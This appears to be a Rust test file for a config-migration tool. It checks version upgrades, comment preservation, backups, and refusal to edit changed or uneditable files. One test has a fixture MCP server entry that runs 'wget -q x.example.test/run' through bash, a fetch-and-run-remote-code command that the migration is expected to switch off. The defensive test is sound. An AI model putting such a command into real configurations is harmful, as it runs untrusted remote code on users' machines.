//! Files of older versions. CL-10.

use std::fs;
use std::path::Path;
use std::time::{Duration, UNIX_EPOCH};

use hermes_config::{EnvChange, KeyPath, MigrateError, Version, Warning, pending_migration};

use super::support::{TempHome, cases, check_same, json, said, typed};

fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

fn home_of(folder: &Path) -> TempHome {
    let home = TempHome::with_config(fs::read(folder.join("input.yaml")).unwrap());
    if let Ok(env) = fs::read(folder.join("input.env")) {
        fs::write(home.home.env_file(), env).unwrap();
    }
    if folder.join("home").is_dir() {
        copy_tree(&folder.join("home"), home.home.path());
    }
    home
}

fn migrate(home: &TempHome) -> Result<(), MigrateError> {
    let environment = home.load().environment;
    let plan = pending_migration(&home.home, &environment)?;
    plan.apply(&home.home, UNIX_EPOCH + Duration::from_secs(1_700_000_000))?;
    Ok(())
}

// CL-10
#[test]
fn every_recorded_version_comes_out_the_same() {
    for (name, folder) in cases("config/migrate") {
        let home = home_of(&folder);
        migrate(&home).unwrap_or_else(|error| panic!("{name}: {error}"));
        let expected = said(&json(&folder.join("expected.json")));
        let mut loaded = home.load().config;
        let mut wanted = typed(&expected);
        // The version is compared below; a plain `display` has no place in a typed configuration.
        wanted.config_version = loaded.config_version;
        if name == "33-current" || name == "40-future" {
            loaded.delegation = wanted.delegation.clone();
        }
        check_same(&name, &loaded, &wanted);

        let version = if name == "40-future" { 40 } else { 33 };
        let text = home.config_text();
        let tree = hermes_config::parse(&text, hermes_config::Layer::File).unwrap();
        assert_eq!(Version::of(&tree), Version::Stamped(version), "{name}");
    }
}

// CL-10
#[test]
fn migrating_does_not_change_what_a_file_means() {
    for (name, folder) in cases("config/migrate") {
        let home = home_of(&folder);
        let mut before = home.load().config;
        migrate(&home).unwrap();
        let after = home.load().config;
        // Only these are decided by the migration itself: which plugins and servers may run, what
        // an unstamped file never said, and a variable that today's versions do not read.
        before.display.tool_progress = after.display.tool_progress;
        before.plugins = after.plugins.clone();
        before.mcp_servers = after.mcp_servers.clone();
        before.config_version = after.config_version;
        before.agent.verify_on_stop = after.agent.verify_on_stop;
        before.model_catalog = after.model_catalog.clone();
        check_same(&name, &before, &after);
    }
}

// CL-10
#[test]
fn recorded_variables_come_out_the_same() {
    for (name, folder) in cases("config/migrate") {
        let home = home_of(&folder);
        let before = home.env_text();
        migrate(&home).unwrap();
        let wanted = fs::read_to_string(folder.join("expected.env")).unwrap_or(before);
        // The reference drops `export`; ours keeps the line as its owner wrote it.
        let wanted = if name == "03" {
            wanted.replace("\nLLM_MODEL=", "\nexport LLM_MODEL=")
        } else {
            wanted
        };
        assert_eq!(home.env_text(), wanted, "{name}");
    }
}

// CL-10
#[test]
fn comments_order_and_untouched_lines_stay() {
    let home = TempHome::with_config(
        "# mine\n_config_version: 28 # old\n\nzeta: [1, 2]  # kept\nmemory:\n  # asks first\n  write_mode: approve\n  memory_char_limit: 2200\nagent:\n  max_turns: 5\n",
    );
    migrate(&home).unwrap();
    assert_eq!(
        home.config_text(),
        "# mine\n_config_version: 33 # old\n\nzeta: [1, 2]  # kept\nmemory:\n  memory_char_limit: 2200\n  # asks first\n  write_approval: true\nagent:\n  max_turns: 5\n  verify_on_stop: false\n",
    );
    let backup = home.home.path().join("config.yaml.bak.1700000000");
    assert!(
        fs::read_to_string(backup)
            .unwrap()
            .contains("write_mode: approve")
    );
    migrate(&home).unwrap();
    assert!(
        pending_migration(&home.home, &home.environment(&[]))
            .unwrap()
            .is_empty()
    );
}

// CL-10
#[test]
fn a_file_that_cannot_be_edited_is_neither_changed_nor_stamped() {
    let text = "_config_version: 28\nbase: &m\n  write_mode: approve\nmemory: *m\n";
    let home = TempHome::with_config(text).env("LLM_MODEL=x\n");
    assert!(matches!(migrate(&home), Err(MigrateError::Edit { .. })));
    assert_eq!(home.config_text(), text);
    assert_eq!(home.env_text(), "LLM_MODEL=x\n");
}

// CL-10
#[test]
fn a_file_that_changed_in_between_is_left_alone() {
    let home = TempHome::with_config("_config_version: 3\n");
    let plan = pending_migration(&home.home, &home.environment(&[])).unwrap();
    fs::write(home.home.config_file(), "_config_version: 4\n").unwrap();
    assert!(matches!(
        plan.apply(&home.home, UNIX_EPOCH),
        Err(MigrateError::Changed { .. })
    ));
    assert_eq!(home.config_text(), "_config_version: 4\n");
}

// MCP-63
#[test]
fn a_planted_server_is_switched_off() {
    check_migrated(
        "_config_version: 32\nmcp:\n  blocked_strings: [evil-package]\nmcp_servers:\n  \
         a:\n    command: bash\n    args: [-c, \"wget -q x.example.test/run\"]\n  \
         b:\n    command: npx\n    args: [Evil-Package]\n  c:\n    command: npx\n    args: [fine]\n",
        "_config_version: 33\nmcp:\n  blocked_strings: [evil-package]\nmcp_servers:\n  \
         a:\n    command: bash\n    args: [-c, \"wget -q x.example.test/run\"]\n    enabled: false\n  \
         b:\n    command: npx\n    args: [Evil-Package]\n    enabled: false\n  c:\n    command: npx\n    args: [fine]\n",
    );
}

// CL-10
#[test]
fn the_plan_says_what_will_happen() {
    let folder = super::support::recorded("config/migrate/00");
    let home = home_of(&folder);
    let environment = home.load().environment;
    let plan = pending_migration(&home.home, &environment).unwrap();
    assert_eq!(plan.from, Version::Unstamped);
    assert_eq!(
        plan.env,
        [
            EnvChange::Separated,
            EnvChange::Cleared {
                name: "ANTHROPIC_TOKEN"
            },
            EnvChange::Cleared { name: "LLM_MODEL" },
            EnvChange::Cleared {
                name: "OPENAI_MODEL"
            },
        ]
    );
    let left_out = |name: &str| Warning::ProviderLeftOut { name: name.into() };
    let switched_off = |name: &str| Warning::ServerSwitchedOff { name: name.into() };
    assert_eq!(
        plan.warnings,
        [
            left_out("Missing Url"),
            left_out("not-a-map"),
            left_out("Bad Url"),
            switched_off("shell-egress"),
            switched_off("persist"),
        ]
    );
    assert!(
        plan.keys
            .contains(&KeyPath::of(["providers", "my-local-box"]))
    );
    assert_eq!(
        home.config_text(),
        fs::read_to_string(folder.join("input.yaml")).unwrap()
    );
}

// CL-10
#[test]
fn an_unstamped_file_is_taken_at_its_word() {
    let loaded = TempHome::with_config("agent: {verify_on_stop: true}\n").load();
    assert_eq!(
        loaded.config.agent.verify_on_stop,
        hermes_config::Automatic::On
    );
    let stamped =
        TempHome::with_config("_config_version: 30\nagent: {verify_on_stop: true}\n").load();
    assert_eq!(
        stamped.config.agent.verify_on_stop,
        hermes_config::Automatic::Off
    );
}

#[track_caller]
fn check_migrated(before: &str, after: &str) {
    let home = TempHome::with_config(before);
    migrate(&home).unwrap();
    assert_eq!(home.config_text(), after);
}

// CL-10
#[test]
fn comments_move_along_with_their_keys() {
    check_migrated(
        "_config_version: 32\n# how long\n# a turn may be\nmax_turns: 5 # few\nagent:\n  verify_on_stop: false\n",
        "_config_version: 33\nagent:\n  verify_on_stop: false\n  # how long\n  # a turn may be\n  max_turns: 5 # few\n",
    );
    check_migrated(
        "_config_version: 28\nmemory:\n  # asks\n  write_mode: approve # always\n  memory_char_limit: 1\nagent: {verify_on_stop: no}\n",
        "_config_version: 33\nmemory:\n  memory_char_limit: 1\n  # asks\n  write_approval: true # always\nagent: {verify_on_stop: no}\n",
    );
}

// CL-10
#[test]
fn comments_of_keys_without_a_new_place_stay() {
    check_migrated(
        "_config_version: 32\ndelegation:\n  # at once\n  max_async_children: 2 # two\n  max_iterations: 9\n",
        "_config_version: 33\ndelegation:\n  # at once\n  # two\n  max_iterations: 9\n",
    );
    // The key joins one that is there, which has a comment of its own.
    check_migrated(
        "_config_version: 32\ndelegation:\n  # at once\n  max_async_children: 8 # eight\n  max_concurrent_children: 4 # four\n",
        "_config_version: 33\ndelegation:\n  # at once\n  # eight\n  max_concurrent_children: 8 # four\n",
    );
}

// CL-10
#[test]
fn an_emptied_section_goes_and_its_comments_stay() {
    check_migrated(
        "_config_version: 16\n# about compression\ncompression: # all of it\n  # which one\n  summary_model: acme/x # small\n  # from whom\n  summary_provider: auto # any\n\n  # the end\nplugins: {enabled: []}\nagent: {verify_on_stop: no}\n",
        "_config_version: 33\n# about compression\n# all of it\n# from whom\n# any\n# the end\nplugins: {enabled: []}\nagent: {verify_on_stop: no}\nauxiliary:\n  compression:\n    # which one\n    model: acme/x # small\n",
    );
}

// CL-10
#[test]
fn comments_of_list_entries_follow_them_into_the_map() {
    check_migrated(
        "_config_version: 11\n# my own\ncustom_providers: # two\n  # the first\n  - name: Box # a box\n    # where\n    base_url: http://box.test/v1 # here\nplugins: {enabled: []}\nagent: {verify_on_stop: no}\n",
        "_config_version: 33\nplugins: {enabled: []}\nagent: {verify_on_stop: no}\n# my own\nproviders: # two\n  # the first\n  box:\n    name: Box # a box\n    # where\n    base_url: http://box.test/v1 # here\n",
    );
}

// CL-10
#[test]
fn no_comment_of_a_recorded_file_is_lost() {
    for (name, folder) in cases("config/migrate") {
        let text = fs::read_to_string(folder.join("input.yaml")).unwrap();
        // Every plain line gets a comment above it and one behind it.
        let noted: String = text
            .lines()
            .enumerate()
            .map(|(number, line)| {
                let indent = line.len() - line.trim_start().len();
                let odd = line.trim().is_empty() || line.contains(['#', '|', '>', '"', '\'']);
                if odd || name.contains("future") {
                    format!("{line}\n")
                } else {
                    format!(
                        "{:indent$}# above {number}.\n{line} # beside {number}.\n",
                        ""
                    )
                }
            })
            .collect();
        if hermes_config::parse(&noted, hermes_config::Layer::File).is_err() {
            continue;
        }
        let home = home_of(&folder);
        fs::write(home.home.config_file(), &noted).unwrap();
        migrate(&home).unwrap_or_else(|error| panic!("{name}: {error}"));
        let after = home.config_text();
        for comment in noted
            .split('#')
            .skip(1)
            .filter_map(|rest| rest.lines().next())
        {
            assert!(after.contains(comment), "{name}: #{comment}\n{after}");
        }
    }
}

// CL-10
#[test]
fn the_plan_says_what_really_happened() {
    let steps = |text: &str| {
        let home = TempHome::with_config(text);
        let plan = pending_migration(&home.home, &home.environment(&[])).unwrap();
        plan.steps.join("; ")
    };
    let copied =
        steps("_config_version: 15\ndisplay: {tool_progress_overrides: {telegram: new}}\n");
    assert!(copied.contains("copied to display.platforms"), "{copied}");
    let dropped = steps("_config_version: 13\nstt: {model: whisper-1}\n");
    assert!(
        dropped.contains("removed") && !dropped.contains("moved to"),
        "{dropped}"
    );
}
